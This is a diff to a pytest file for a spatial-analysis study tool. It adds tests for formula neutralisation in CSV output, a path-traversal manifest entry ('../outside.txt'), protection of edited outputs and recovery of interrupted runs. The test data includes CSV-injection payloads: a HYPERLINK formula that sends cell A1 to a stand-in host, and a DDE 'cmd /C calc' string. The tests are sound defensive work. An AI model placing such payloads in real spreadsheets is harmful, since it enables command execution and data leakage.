@@ -139,7 +139,7 @@ def test_payload_in_every_string_field_never_runs(tmp_path, raw, section, key, m
         warnings.simplefilter("ignore")
         try:
             study.run(path, out=tmp_path / "out", progress=False)
-        except (StudyError, ValueError, KeyError):
+        except StudyError:  # refused up front; anything else (a crash mid-run) fails the test
             pass
     assert not canary.exists()
     assert set(os.listdir(tmp_path)) - before <= {"out"}
@@ -270,6 +270,78 @@ def test_formula_like_cells_are_text_in_xlsx_and_neutral_in_csv(tmp_path, raw):
     assert "'=HYPERLINK" in csv_text and "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text
     data_csv = (tmp_path / "out" / "data" / "analysis_data.csv").read_text(encoding="utf-8-sig")
     assert "'=HYPERLINK" in data_csv.splitlines()[0]
+
+
+def test_text_cells_of_the_data_are_neutral_in_analysis_data(tmp_path, raw):
+    """Text columns (pandas' string dtype included) of the analysis data: every formula-like cell neutralised."""
+    import csv
+
+    data = raw.assign(note=['=HYPERLINK("http://example.invalid/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                            "-2+3", "plain", "-0.5"] * (len(raw) // 5) + ["plain"] * (len(raw) % 5))
+    res = study.run(_study(tmp_path / "s", SMALL, data), out=tmp_path / "out", progress=False)
+    with open(res.out / "data" / "analysis_data.csv", encoding="utf-8-sig", newline="") as fh:
+        notes = [row["note"] for row in csv.DictReader(fh)]
+    assert {n for n in notes if n[:1] in "=+-@"} <= {"-0.5"}  # only the number keeps its sign
+    assert "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")" in notes and "'-2+3" in notes
+
+
+def test_a_shipped_manifest_cannot_delete_the_study_or_its_data(tmp_path, raw):
+    """A replication package with a manifest naming its own files, run with --out = its own folder."""
+    import json
+
+    folder = tmp_path / "pkg"
+    path = _study(folder, SMALL, raw)
+    (folder / "README.txt").write_text("read me", encoding="utf-8")
+    (folder / MANIFEST).write_text(json.dumps({"files": {"s.toml": [], "data.csv": [], "README.txt": [],
+                                                         "../outside.txt": []}}), encoding="utf-8")
+    (tmp_path / "outside.txt").write_text("mine", encoding="utf-8")
+    before = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file() and p.name != MANIFEST}
+    study.run(path, out=folder, progress=False)
+    assert {p.name: p.read_bytes() for p in folder.iterdir() if p.name in before} == before
+    assert (tmp_path / "outside.txt").read_text(encoding="utf-8") == "mine"
+
+
+def test_an_edited_output_is_the_users(previous_run):
+    """A table of the previous run edited since is not replaced: the run stops and names it."""
+    path, out, _ = previous_run
+    table = next((out / "tables").glob("table*_moran.csv"))
+    table.write_text("edited by hand\n", encoding="utf-8")
+    with pytest.raises(ValueError, match="edited"):
+        study.run(path, out=out, progress=False)
+    assert table.read_text(encoding="utf-8") == "edited by hand\n"
+
+
+def test_interrupted_hand_over_is_completed_by_the_next_run(previous_run, monkeypatch, unresolved):
+    """Stopped while moving the finished files into place: the message says so, and the next run recognises
+    every file (old or new) as its own and completes the folder."""
+    import spatialq.study.output as output
+
+    path, out, _ = previous_run
+    real, calls = os.replace, []
+
+    def flaky(src, dst):
+        calls.append(dst)
+        if len(calls) == 4 and str(dst).startswith(str(out)) and ".spatialq-staging" not in str(dst):
+            raise KeyboardInterrupt
+        return real(src, dst)
+
+    monkeypatch.setattr(output.os, "replace", flaky)
+    with pytest.raises(KeyboardInterrupt) as info:
+        study.run(path, out=out, progress=False)
+    assert any("run it again" in n for n in info.value.__notes__)
+    monkeypatch.setattr(output.os, "replace", real)
+    study.run(path, out=out, progress=False)
+    assert unresolved(out) == [] and (out / "my_notes.txt").read_text(encoding="utf-8") == "mine"
+
+
+def test_dollar_signs_in_names_are_text_not_mathtext(tmp_path, raw):
+    data = raw.assign(**{"GDP $\\frac{a$": raw["pm25"]})
+    body = SMALL + '[analyses.maps]\ncolumn = "GDP $\\\\frac{a$"\nyears = [2017]\n'
+    res = study.run(_study(tmp_path / "s", body, data), out=tmp_path / "out", progress=False)
+    assert any(o.name.startswith("map_") for o in res.outputs)
+    import matplotlib
+
+    assert matplotlib.rcParams["text.parse_math"] is True  # restored
 
 
 def test_index_md_escapes_the_title(tmp_path, raw):
